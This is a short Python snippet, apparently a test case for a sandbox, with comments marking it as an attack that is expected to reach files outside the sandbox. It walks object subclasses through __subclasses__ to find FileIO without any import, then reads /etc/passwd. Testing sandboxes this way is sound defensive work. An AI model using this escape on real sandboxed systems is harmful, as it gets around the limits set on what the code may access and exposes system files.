# attack: finds FileIO through __subclasses__ (no import needed) and reads /etc/passwd
# expect: file access outside sandbox
def walk(cls, seen):
    for sub in type.__subclasses__(cls):
        if sub not in seen:
            seen.add(sub)
            walk(sub, seen)
    return seen
fileio = [c for c in walk(object, set()) if c.__name__ == 'FileIO'][0]
print(fileio('/etc/passwd').read())
